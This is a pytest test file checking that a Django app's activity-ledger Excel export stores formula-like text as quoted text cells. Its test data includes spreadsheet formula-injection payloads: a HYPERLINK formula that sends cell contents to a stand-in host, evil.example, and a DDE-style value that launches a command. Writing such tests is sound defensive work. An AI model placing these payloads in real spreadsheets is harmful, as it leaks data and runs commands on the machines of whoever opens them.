"""The activity ledger's Excel export writes what people typed as text, never as a formula (core.xlsx):
a caring mother's place, title or notes that a spreadsheet would read as a formula comes out of the
activity ledger's export (the exports app's job) as a text cell with Excel's quote prefix, its text
unchanged."""

from datetime import date

import pytest

from tests.exports.helpers import exported_sheet

pytestmark = pytest.mark.django_db

VISIT_DAY = date(2025, 4, 10)  # after the pairings of tests/pairing/conftest.py (START, 2025-03-01)
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
# The export's columns (activities.export.COLUMNS) holding free text.
COLUMN = {"title": "标题", "place": "地点", "notes": "备注"}

CASES = {
    "a HYPERLINK formula as the place": ("place", HYPERLINK),
    "a title starting with +": ("title", "+86 的妈妈来电=1+1"),
    "notes starting with -": ("notes", "-1+1 孩子发烧"),
    "notes starting with @": ("notes", "@SUM(1+1)*cmd|' /C calc'!A0"),
}


@pytest.fixture
def my_child(child_lishi, my_mother, pair):
    """王小雨 (离石区), led by the caring mother behind ``volunteer_lishi`` since 2025-03-01."""
    pair(child_lishi, my_mother)
    return child_lishi


def exported_cell(client, field: str):
    """The cell of ``field`` in the export's first data row (a full workbook: styles are read too)."""
    sheet = exported_sheet(client, "activities")
    headers = [cell.value for cell in sheet[1]]
    return sheet.cell(row=2, column=headers.index(COLUMN[field]) + 1)


@pytest.fixture(params=list(CASES), ids=list(CASES))
def typed(request, record, volunteer_lishi, my_child, client, staff_lishi):
    """The case's field and text, recorded by the caring mother through activities.services; then the
    export as 离石区's staff get it."""
    field, text = CASES[request.param]
    record(volunteer_lishi, children=[my_child], occurred_on=VISIT_DAY, **{field: text})
    client.force_login(staff_lishi)
    return exported_cell(client, field), text


def test_formula_like_text_is_a_text_cell(typed):
    cell, _text = typed
    assert cell.data_type == "s"


def test_formula_like_text_keeps_its_text(typed):
    cell, text = typed
    assert cell.value == text


def test_formula_like_text_carries_the_quote_prefix(typed):
    cell, _text = typed
    assert cell.quotePrefix is True


def test_ordinary_text_has_no_quote_prefix(record, volunteer_lishi, my_child, client, staff_lishi):
    record(volunteer_lishi, children=[my_child], occurred_on=VISIT_DAY, place="东关村孩子家中")
    client.force_login(staff_lishi)
    cell = exported_cell(client, "place")
    assert (cell.value, cell.quotePrefix) == ("东关村孩子家中", False)
